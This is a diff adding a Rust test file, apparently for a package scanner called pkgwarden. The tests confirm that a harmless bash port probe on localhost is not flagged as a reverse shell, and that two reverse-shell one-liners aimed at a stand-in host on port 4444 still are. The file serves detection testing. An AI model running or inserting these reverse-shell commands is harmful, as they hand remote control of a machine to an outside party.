@@ -1,0 +1,59 @@
+//! Benign look-alikes of code found in popular packages that were once flagged: each is
+//! packed into an sdist in memory and must come out clean. Next to each, the malicious
+//! shape the narrowed rule must still catch.
+
+mod common;
+
+use common::{gzip, scan, tar, with_rule};
+use pkgwarden::verdict::Verdict;
+use pkgwarden::PackageReport;
+
+/// An sdist `demo-1.0.tar.gz` holding a minimal setup.py plus `files`.
+fn sdist(files: &[(&str, &str)]) -> PackageReport {
+    let mut all: Vec<(String, Vec<u8>)> = vec![
+        (
+            "PKG-INFO".into(),
+            b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n".to_vec(),
+        ),
+        (
+            "setup.py".into(),
+            b"from setuptools import setup\nsetup(name='demo', version='1.0')\n".to_vec(),
+        ),
+    ];
+    all.extend(
+        files
+            .iter()
+            .map(|(p, c)| (p.to_string(), c.as_bytes().to_vec())),
+    );
+    scan("demo-1.0.tar.gz", &gzip(&tar(&all, "demo-1.0/")))
+}
+
+fn assert_clean(r: &PackageReport) {
+    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
+}
+
+/// mcp: a CI script checks whether a port is taken with `(: > /dev/tcp/localhost/$PORT)`.
+#[test]
+fn dev_tcp_port_probe_is_not_a_reverse_shell() {
+    let r = sdist(&[(
+        "ci/run-server.sh",
+        "#!/bin/bash\nPORT=3001\nif (: > \"/dev/tcp/localhost/${PORT}\") 2>/dev/null; then\n  echo busy\nfi\n",
+    )]);
+    assert!(
+        with_rule(&r, "reverse-shell").is_empty(),
+        "{:#?}",
+        r.findings
+    );
+    assert_clean(&r);
+    let r = sdist(&[("ci/x.sh", "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1\n")]);
+    assert_eq!(with_rule(&r, "reverse-shell").len(), 1, "{:#?}", r.findings);
+    let r = sdist(&[(
+        "ci/y.sh",
+        "exec 5<>/dev/tcp/192.0.2.9/4444; cat <&5 | while read l; do $l 2>&5 >&5; done\n",
+    )]);
+    assert!(
+        !with_rule(&r, "reverse-shell").is_empty(),
+        "{:#?}",
+        r.findings
+    );
+}
